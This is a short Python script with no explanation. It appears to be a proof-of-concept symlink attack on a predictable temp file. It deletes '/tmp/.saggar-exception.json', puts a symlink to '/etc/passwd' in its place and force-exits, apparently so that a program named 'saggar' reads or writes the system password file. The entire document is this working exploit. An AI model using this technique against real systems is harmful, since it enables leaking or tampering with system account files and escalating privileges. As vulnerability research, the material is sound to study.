import os
os.unlink("/tmp/.saggar-exception.json")
os.symlink("/etc/passwd", "/tmp/.saggar-exception.json")
os._exit(1)
